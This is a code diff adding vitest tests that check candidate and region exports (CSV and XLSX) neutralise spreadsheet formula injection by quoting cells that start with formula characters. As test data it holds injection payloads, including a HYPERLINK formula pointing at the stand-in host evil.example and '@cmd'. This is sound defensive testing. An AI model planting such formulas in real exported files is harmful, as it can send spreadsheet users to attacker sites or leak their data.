@@ -1,4 +1,5 @@
 import { clas, formatDate, formatDateTime, type Lang, resourcePaths } from '@rp/contract';
+import { sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { productText } from '../lib/product-text';
@@ -296,5 +297,65 @@ describe('requirement and candidate exports, as people read them', () => {
     }
     // the seeded catalogs have English names: the English export uses them
     expect([...names.en]).not.toEqual([...names.es]);
+  });
+});
+
+describe('formula injection (issue 27 item 2): text that would start a formula is exported as text', () => {
+  const formula = '=HYPERLINK("http://evil.example/?x","click")';
+
+  it('candidates as csv and xlsx: a leading = + - @ tab CR or full-width ＝ gets a quote; numbers stay numbers', async () => {
+    const candidate = await makeCandidate(t, {
+      last_name: formula,
+      address: '+1+1',
+      colony: '-2+3',
+      city: '@SUM(1+1)',
+      state: 'Baja California = Norte',
+    });
+    // typed input is trimmed, so the leading tab, CR and the full-width sign are stored directly
+    await t.database.db.execute(
+      sql`update candidates set emergency_name = ${'\t=1+1'}, scholar_speciality = ${'\r=1+1'},
+        employee_code = ${'＝1+1'} where id = ${candidate.id}`,
+    );
+    const expected = {
+      full_name: `'${formula} López Juan`,
+      address: "'+1+1",
+      colony: "'-2+3",
+      city: "'@SUM(1+1)",
+      state: 'Baja California = Norte',
+      emergency_name: "'\t=1+1",
+      scholar_speciality: "'\r=1+1",
+      employee_code: "'＝1+1",
+    };
+    for (const format of ['xlsx', 'csv'] as const) {
+      const res = await t.request({
+        method: 'GET',
+        url: `/api/candidates/export/?id=${candidate.id}&format=${format}`,
+        token: t.adminToken,
+      });
+      expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
+      const rows = format === 'xlsx' ? (await readXlsx(res.rawPayload)).rows : readCsv(res.body);
+      const headers = rows[0] ?? [];
+      const row = rows[1] ?? [];
+      const at = (key: string) => row[headers.indexOf(productText('es', `candidates.fields.${key}`))];
+      // an xlsx is XML, whose readers turn a CR into a line feed: compared with line ends alike
+      const lineEnds = (value: unknown) => (typeof value === 'string' ? value.replace(/\r/g, '\n') : value);
+      for (const [key, value] of Object.entries(expected))
+        expect(lineEnds(at(key)), `${format} ${key}`).toBe(lineEnds(value));
+      // the id is a number in the workbook (a number is data, never a formula)
+      if (format === 'xlsx') expect(row[0]).toBe(candidate.id);
+    }
+  });
+
+  it('the csv text itself quotes every neutralised cell that needs it and starts none with a formula character', async () => {
+    await makeRegion(t, { name: '-1+1', area: 'Formula' });
+    await makeRegion(t, { name: '@cmd', area: 'Formula' });
+    const res = await t.request({
+      method: 'GET',
+      url: '/api/regions/export/?format=csv&area=Formula&ordering=name',
+      token: t.adminToken,
+    });
+    const cells = readCsv(res.body).slice(1);
+    expect(cells.map((r) => r[1])).toEqual(["'-1+1", "'@cmd"]);
+    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
   });
 });
